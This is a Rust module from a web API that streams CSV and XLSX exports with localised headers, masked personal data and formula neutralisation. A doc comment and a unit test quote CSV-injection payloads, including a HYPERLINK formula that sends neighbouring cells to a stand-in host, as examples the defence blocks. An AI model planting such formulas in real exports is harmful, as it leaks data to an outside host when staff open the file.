//! Export as data. A capability describes its spreadsheet once — a [`Table`] of
//! [`Column`]s, each with a header per language and a function from a row to a typed
//! [`Cell`] — and gives a [`Pages`] source; this module writes CSV and XLSX from it,
//! streamed, in the caller's language, with formulas neutralised.
//!
//! A download goes as fast as the client reads, which may be never. So nothing waits
//! for the client while holding a pooled connection or a thread: each page takes a
//! connection and gives it back before its chunk is queued, and the queueing is an
//! async wait. XLSX is built on a blocking thread (rust_xlsxwriter's constant-memory
//! mode, into a temporary file) and then streamed from that file.

use std::io::Read;

use actix_web::http::header;
use actix_web::web::{self, Bytes};
use actix_web::{HttpRequest, HttpResponse};
use baqylau_wire::personal::{Mask, Personal};
use chrono::{DateTime, NaiveDate, Utc};
use rust_xlsxwriter::{Format as CellFormat, Workbook, XlsxError};
use tokio::sync::mpsc;

use crate::db::{Db, DbConn};
use crate::error::{ApiError, ApiResult};

/// The language of headers and names in a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Kk,
    Ru,
    En,
}

impl Lang {
    /// The first of kk, ru, en named in `Accept-Language` (by quality); Kazakh when
    /// none is.
    pub fn of(req: &HttpRequest) -> Lang {
        let header = req
            .headers()
            .get(header::ACCEPT_LANGUAGE)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("");
        let mut tags: Vec<(f32, &str)> = header
            .split(',')
            .filter_map(|part| {
                let mut pieces = part.trim().split(';');
                let tag = pieces.next()?.trim();
                let q = pieces
                    .find_map(|p| p.trim().strip_prefix("q=").and_then(|q| q.parse().ok()))
                    .unwrap_or(1.0);
                Some((q, tag))
            })
            .collect();
        tags.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(std::cmp::Ordering::Equal));
        tags.iter()
            .find_map(|(_, tag)| {
                match tag
                    .split('-')
                    .next()
                    .unwrap_or("")
                    .to_ascii_lowercase()
                    .as_str()
                {
                    "kk" => Some(Lang::Kk),
                    "ru" => Some(Lang::Ru),
                    "en" => Some(Lang::En),
                    _ => None,
                }
            })
            .unwrap_or(Lang::Kk)
    }

    /// Picks the text of this language from a `[kk, ru, en]` triple.
    pub fn pick<T: Copy>(self, texts: [T; 3]) -> T {
        texts[self as usize]
    }
}

/// The file format asked for with `?format=`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileFormat {
    Csv,
    Xlsx,
}

impl FileFormat {
    /// `csv` (the default) or `xlsx`; anything else is 422 on `format`.
    pub fn parse(value: Option<&str>) -> ApiResult<FileFormat> {
        match value.unwrap_or("csv") {
            "csv" => Ok(FileFormat::Csv),
            "xlsx" => Ok(FileFormat::Xlsx),
            _ => Err(ApiError::validation(
                "format",
                "one_of",
                "must be csv or xlsx",
            )),
        }
    }
}

/// One typed cell: XLSX keeps the type (dates sort as dates), CSV writes text.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Empty,
    Text(String),
    Int(i64),
    Bool(bool),
    Date(NaiveDate),
    /// An instant: XLSX shows it in Kazakhstan wall-clock time (cells carry no zone),
    /// CSV in RFC 3339 UTC.
    Time(DateTime<Utc>),
}

impl Cell {
    pub fn text(value: impl Into<String>) -> Cell {
        Cell::Text(value.into())
    }

    pub fn opt_text(value: Option<&str>) -> Cell {
        value.map_or(Cell::Empty, Cell::text)
    }

    /// Personal data as the caller may see it: a cell cannot be given the stored value.
    pub fn personal<M: Mask>(value: Option<&Personal<M>>) -> Cell {
        value.map_or(Cell::Empty, |v| Cell::text(v.shown()))
    }

    /// The CSV text of this cell, never a formula.
    fn csv(&self) -> String {
        match self {
            Cell::Empty => String::new(),
            Cell::Text(s) => defuse_formula(s),
            Cell::Int(n) => n.to_string(),
            Cell::Bool(b) => b.to_string(),
            Cell::Date(d) => d.to_string(),
            Cell::Time(t) => t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        }
    }
}

/// Keeps a cell from being read as a formula by spreadsheet programs: a subject like
/// `=HYPERLINK("http://x/?"&L2,"…")` would otherwise run when staff open the file and
/// leak the neighbouring cells (OWASP, CSV Injection). A leading apostrophe makes the
/// cell text; the cell's characters are otherwise unchanged.
pub fn defuse_formula(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

/// One column: its header in kk, ru and en, and how a row becomes its cell.
pub struct Column<R> {
    pub headers: [&'static str; 3],
    pub cell: fn(&R) -> Cell,
}

impl<R> Column<R> {
    /// A column headed by one name in all three languages: a field name that an import
    /// reads back whatever the language of the file it was given.
    pub const fn field(name: &'static str, cell: fn(&R) -> Cell) -> Column<R> {
        Column {
            headers: [name; 3],
            cell,
        }
    }
}

/// A resource's spreadsheet.
pub struct Table<R: 'static> {
    /// The file name's stem (`appeals-2026-03-21.xlsx`).
    pub name: &'static str,
    /// The worksheet's name.
    pub sheet: &'static str,
    pub columns: &'static [Column<R>],
}

impl<R> Table<R> {
    pub fn headers(&self, lang: Lang) -> Vec<&'static str> {
        self.columns.iter().map(|c| lang.pick(c.headers)).collect()
    }
}

/// Rows, a page at a time, each page read with a connection held only while it reads.
pub trait Pages: Send + 'static {
    type Row: Send + 'static;

    /// The next page; an empty page ends the export.
    fn next_page(&mut self, conn: &mut DbConn) -> ApiResult<Vec<Self::Row>>;
}

/// Rows already read, as one page: for exports bounded by their resource (a session's
/// protocol), where paging would only add queries.
pub struct Loaded<R>(Option<Vec<R>>);

impl<R> Loaded<R> {
    pub fn new(rows: Vec<R>) -> Loaded<R> {
        Loaded(Some(rows))
    }
}

impl<R: Send + 'static> Pages for Loaded<R> {
    type Row = R;

    fn next_page(&mut self, _conn: &mut DbConn) -> ApiResult<Vec<R>> {
        Ok(self.0.take().unwrap_or_default())
    }
}

type Chunk = Result<Bytes, std::io::Error>;

/// The answer of an export in the spec (`responses(Download)`): the file, as CSV or
/// XLSX.
pub struct Download;

impl utoipa::IntoResponses for Download {
    fn responses(
    ) -> std::collections::BTreeMap<String, utoipa::openapi::RefOr<utoipa::openapi::Response>> {
        use utoipa::openapi::{ContentBuilder, ResponseBuilder};
        use utoipa::PartialSchema;
        let text = String::schema();
        let bytes = <Vec<u8>>::schema();
        let file = ResponseBuilder::new()
            .description("The file")
            .content("text/csv", ContentBuilder::new().schema(Some(text)).build())
            .content(XLSX_TYPE, ContentBuilder::new().schema(Some(bytes)).build())
            .build();
        [("200".to_owned(), file.into())].into()
    }
}

/// The media type of an XLSX file.
pub const XLSX_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// How a file is made: its format, the language of its header row, and the date in its
/// name.
pub struct File {
    pub format: FileFormat,
    pub lang: Lang,
    pub today: NaiveDate,
}

impl File {
    pub fn new(format: FileFormat, lang: Lang, today: NaiveDate) -> File {
        File {
            format,
            lang,
            today,
        }
    }
}

/// The streamed file response. Problems with the filters must be found before this is
/// called: once the first byte is sent, a failure can only cut the download short.
pub fn respond<P: Pages>(
    db: Db,
    table: &'static Table<P::Row>,
    pages: P,
    file: File,
) -> HttpResponse {
    let File {
        format,
        lang,
        today,
    } = file;
    let (tx, rx) = mpsc::channel::<Chunk>(8);
    actix_web::rt::spawn(async move {
        let result = match format {
            FileFormat::Csv => produce_csv(db, table, pages, lang, &tx).await,
            FileFormat::Xlsx => produce_xlsx(db, table, pages, lang, &tx).await,
        };
        if let Err(e) = result {
            tracing::warn!(error = %e, "export stopped");
            let _ = tx.send(Err(std::io::Error::other("export failed"))).await;
        }
    });
    let stream = futures_util::stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|chunk| (chunk, rx))
    });
    let (content_type, extension) = match format {
        FileFormat::Xlsx => (XLSX_TYPE, "xlsx"),
        FileFormat::Csv => ("text/csv; charset=utf-8", "csv"),
    };
    HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, content_type))
        .insert_header((
            header::CONTENT_DISPOSITION,
            format!(
                "attachment; filename=\"{}-{today}.{extension}\"",
                table.name
            ),
        ))
        .insert_header((header::CACHE_CONTROL, "no-store"))
        .streaming(stream)
}

/// Queues a chunk for the client, waiting (asynchronously, holding nothing) while the
/// client is slow.
async fn send(tx: &mpsc::Sender<Chunk>, chunk: Vec<u8>) -> ApiResult<()> {
    tx.send(Ok(Bytes::from(chunk)))
        .await
        .map_err(|_| ApiError::Internal(anyhow::anyhow!("export client went away")))
}

fn csv_chunk(records: Vec<Vec<String>>, prefix: &[u8]) -> ApiResult<Vec<u8>> {
    let mut out = csv::Writer::from_writer(prefix.to_vec());
    for record in records {
        out.write_record(record).map_err(anyhow::Error::from)?;
    }
    out.into_inner()
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("csv: {e}")))
}

/// The next page, read on a blocking thread whose connection goes back to the pool
/// when it returns — before the wait for the client.
async fn next<P: Pages>(db: &Db, mut pages: P) -> ApiResult<(P, Vec<P::Row>)> {
    db.run(move |conn| {
        let rows = pages.next_page(conn)?;
        Ok((pages, rows))
    })
    .await
}

async fn produce_csv<P: Pages>(
    db: Db,
    table: &'static Table<P::Row>,
    mut pages: P,
    lang: Lang,
    tx: &mpsc::Sender<Chunk>,
) -> ApiResult<()> {
    let header = vec![table.headers(lang).into_iter().map(str::to_owned).collect()];
    // A byte-order mark lets spreadsheet programs read the UTF-8 Cyrillic correctly.
    send(tx, csv_chunk(header, b"\xEF\xBB\xBF")?).await?;
    loop {
        let (back, rows) = next(&db, pages).await?;
        pages = back;
        if rows.is_empty() {
            return Ok(());
        }
        let records = rows
            .iter()
            .map(|row| table.columns.iter().map(|c| (c.cell)(row).csv()).collect())
            .collect();
        send(tx, csv_chunk(records, b"")?).await?;
    }
}

async fn produce_xlsx<P: Pages>(
    db: Db,
    table: &'static Table<P::Row>,
    pages: P,
    lang: Lang,
    tx: &mpsc::Sender<Chunk>,
) -> ApiResult<()> {
    let mut file = web::block(move || write_xlsx(&db, table, pages, lang))
        .await
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("xlsx task failed: {e}")))??;
    loop {
        let (back, buf) = web::block(move || {
            let mut buf = vec![0u8; 64 * 1024];
            let n = file.read(&mut buf)?;
            buf.truncate(n);
            Ok::<_, std::io::Error>((file, buf))
        })
        .await
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("xlsx read task failed: {e}")))?
        .map_err(|e| ApiError::Internal(e.into()))?;
        if buf.is_empty() {
            return Ok(());
        }
        file = back;
        send(tx, buf).await?;
    }
}

/// Writes the workbook to a temporary file, rewound. Blocking; no client waits here,
/// and each page holds a connection only while it is read.
fn write_xlsx<P: Pages>(
    db: &Db,
    table: &Table<P::Row>,
    mut pages: P,
    lang: Lang,
) -> ApiResult<std::fs::File> {
    let xlsx = |e: XlsxError| ApiError::Internal(anyhow::anyhow!("xlsx: {e}"));
    let mut workbook = Workbook::new();
    let date = CellFormat::new().set_num_format("yyyy-mm-dd");
    let datetime = CellFormat::new().set_num_format("yyyy-mm-dd hh:mm");
    let bold = CellFormat::new().set_bold();
    let sheet = workbook.add_worksheet_with_constant_memory();
    sheet.set_name(table.sheet).map_err(xlsx)?;
    for (col, title) in table.headers(lang).iter().enumerate() {
        sheet
            .write_string_with_format(0, col as u16, *title, &bold)
            .map_err(xlsx)?;
    }
    sheet.set_freeze_panes(1, 0).map_err(xlsx)?;
    let mut row_index: u32 = 0;
    loop {
        let rows = pages.next_page(&mut *db.get()?)?;
        if rows.is_empty() {
            break;
        }
        for row in &rows {
            row_index += 1;
            for (col, column) in table.columns.iter().enumerate() {
                let col = col as u16;
                // Text goes in with write_string, never write(): a string is stored as
                // a string even when it starts with "=", so no cell is a formula.
                match (column.cell)(row) {
                    Cell::Empty => continue,
                    Cell::Text(s) => sheet.write_string(row_index, col, s),
                    Cell::Int(n) => sheet.write_number(row_index, col, n as f64),
                    Cell::Bool(b) => sheet.write_boolean(row_index, col, b),
                    Cell::Date(d) => sheet.write_date_with_format(row_index, col, d, &date),
                    Cell::Time(t) => sheet.write_datetime_with_format(
                        row_index,
                        col,
                        baqylau_wire::time::local_datetime(t),
                        &datetime,
                    ),
                }
                .map_err(xlsx)?;
            }
        }
    }
    sheet
        .autofilter(0, 0, row_index, (table.columns.len().max(1) - 1) as u16)
        .map_err(xlsx)?;
    let mut file = tempfile::tempfile().map_err(|e| ApiError::Internal(e.into()))?;
    workbook.save_to_writer(&mut file).map_err(xlsx)?;
    use std::io::Seek;
    file.rewind().map_err(|e| ApiError::Internal(e.into()))?;
    Ok(file)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accept_language_picks_the_best_supported_tag() {
        let req = |v: &str| {
            actix_web::test::TestRequest::default()
                .insert_header((header::ACCEPT_LANGUAGE, v))
                .to_http_request()
        };
        assert_eq!(Lang::of(&req("ru-RU,ru;q=0.9,en;q=0.8")), Lang::Ru);
        assert_eq!(Lang::of(&req("de, en;q=0.5")), Lang::En);
        assert_eq!(Lang::of(&req("en;q=0.3, kk;q=0.9")), Lang::Kk);
        assert_eq!(
            Lang::of(&actix_web::test::TestRequest::default().to_http_request()),
            Lang::Kk
        );
        assert_eq!(Lang::En.pick(["a", "b", "c"]), "c");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        for (raw, want) in [
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("Ауыз су", "Ауыз су"),
        ] {
            assert_eq!(Cell::text(raw).csv(), want);
        }
        assert_eq!(Cell::Int(-5).csv(), "-5", "numbers are numbers, not text");
    }
}
